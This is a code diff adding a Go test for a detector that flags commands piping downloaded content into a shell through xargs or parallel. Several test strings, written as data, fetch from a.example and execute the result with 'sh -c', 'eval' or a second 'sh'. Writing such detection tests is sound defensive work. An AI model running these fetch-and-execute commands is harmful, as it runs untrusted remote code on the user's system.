@@ -76,3 +76,16 @@ func TestAPatternIsNoPipe(t *testing.T) {
 		`watch 'curl a.example | sh'`,
 	)
 }
+
+// M-58: what xargs puts among a command's words is told, and as a command it is run.
+func TestWordsOfADownloadInAScript(t *testing.T) {
+	touched(t, "pipe_to_shell:notify",
+		`curl -s x | xargs -I{} sh -c 'echo {}'`, `curl -s x | xargs -I{} sh -c 'ping -c1 {}'`, `curl -s x | xargs -I{} bash -c 'curl -s "{}" | jq .'`, `curl -s x | parallel sh -c 'echo {} >> log'`,
+		`curl -so data.txt x; sed -n 3p data.txt | xargs -I{} sh -c 'echo {}'`,
+	)
+	touched(t, "pipe_to_shell:contain",
+		`curl a.example | xargs -I{} sh -c '{}'`, `curl a.example | xargs -I{} sh -c '{} --yes'`, `curl a.example | xargs -I{} sh -c 'cd x && {}'`, `curl a.example | xargs -I{} sh -c 'eval "{}"'`,
+		`curl a.example | xargs -I{} sh -c "bash -c '{}'"`, `curl a.example | xargs -I{} sh -c 'echo {} | sh'`, `curl a.example | xargs -I% sh -c %`,
+	)
+	untouched(t, `curl -s x | xargs -n1 sh -c 'echo "$0"'`, `cat list | xargs -I{} sh -c 'echo {}'`)
+}
